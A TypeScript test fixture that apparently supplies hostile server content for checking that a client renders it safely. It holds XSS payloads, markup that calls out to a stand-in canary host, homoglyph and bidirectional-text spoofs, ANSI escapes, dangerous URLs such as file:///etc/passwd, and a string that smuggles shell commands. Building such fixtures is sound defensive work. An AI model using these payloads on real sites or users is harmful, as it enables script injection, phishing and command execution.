// What a hostile server says. If one of these texts runs, the number in `window.sprung` tells which.

/** A host that does not exist: whoever asks for it was made to. */
export const CANARY = 'canary.invalid';

/** What runs where script runs: it leaves a mark on its window, and on the page if it may, and asks for the canary. */
const plain = (n: number): string =>
  `window.sprung=(window.sprung||[]).concat(${n});fetch("http://${CANARY}/${n}");try{top.sprung=window.sprung}catch{}`;
/** The same inside an attribute. */
const script = (n: number): string => plain(n).replaceAll('"', '&quot;');

/** Markup and Markdown that would run, or call out, where it is taken for what it is. */
export const MARKUP: readonly string[] = [
  `<img src=x onerror="${script(0)}">`,
  `"><script>${plain(1)}</script>`,
  `</title></textarea></style><svg onload="${script(2)}"></svg>`,
  `[Click here](javascript:${encodeURIComponent(plain(3))})`,
  `![pixel](http://${CANARY}/4.png) <img src="http://${CANARY}/4b.png">`,
  `<iframe srcdoc="<script>${script(5)}</script>"></iframe>`,
  `<a href="javascript:${script(6)}" autofocus onfocus="${script(6)}">x</a>`,
  `<style>@import "http://${CANARY}/7.css";*{background:url(http://${CANARY}/7b.png)}</style><meta http-equiv="refresh" content="0;url=http://${CANARY}/7c">`,
  `{{constructor.constructor('${plain(8).replaceAll('"', '\\"')}')()}}\${alert(8)}`,
  `<form action="http://${CANARY}/9"><button style="position:fixed;inset:0">Continue</button></form><base href="http://${CANARY}/">`,
];

/** Texts that look like other texts, or change what is around them. */
export const DISGUISED: readonly string[] = [
  'read_\u202Etxt.exe\u202C', // right-to-left override
  'pay\u200Bpal\u2060\uFEFF', // zero width
  'раypal', // two Cyrillic letters
  'hi\u{E0068}\u{E0069}\u{E0064}\u{E0064}\u{E0065}\u{E006E}', // tags, which no font shows
  '\u001B[2J\u001B[1A\u001B[8mhidden\u001B[0m\u001B]0;title\u0007', // ANSI
  'nul\u0000 bell\u0007 back\u0008\u0008\u0008 line\u2028end\u2029',
  `z${'\u0336\u0489\u034F'.repeat(200)}algo`,
  '\uD800 alone',
  'A'.repeat(10_000),
  '\n'.repeat(200) + 'far below',
];

/** All of them. */
export const HOSTILE: readonly string[] = [...MARKUP, ...DISGUISED];

/** Addresses that must be shown and never followed as they are. */
export const ADDRESSES: readonly string[] = [
  `javascript:${plain(20)}//https://pay.example.com/`,
  `JaVaScRiPt\u0009:${plain(21)}`,
  `data:text/html,<script>${plain(22)}</script>`,
  `vbscript:msgbox(23)`,
  'file:///etc/passwd',
  `https://pay.example.com@${CANARY}/`,
  `https://pay.example.com\u2044login.${CANARY}/`,
  'https://xn--pypal-4ve.com/', // punycode of a look-alike
  '//canary.invalid/protocol-relative',
  'ms-settings:privacy',
  'https://h.example/&calc.exe&rem $(touch /tmp/sprung) `id`',
];

const svg = (n: number): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${plain(n)}'><script>${plain(n)}</script><image href="http://${CANARY}/${n}.png"/></svg>`;

/** A picture that is a program. */
export const SVG = svg(30);

/** A page that tries to run, to call out and to get out. */
export const PAGE = `<!DOCTYPE html><html><head><base href="http://${CANARY}/"><script src="http://${CANARY}/31.js"></script>
<meta http-equiv="refresh" content="0;url=http://${CANARY}/31"></head><body onload='${plain(31)}'>
<img src="http://${CANARY}/31.png"><script>${plain(31)};top.location="http://${CANARY}/31"</script>${MARKUP.join('\n')}</body></html>`;
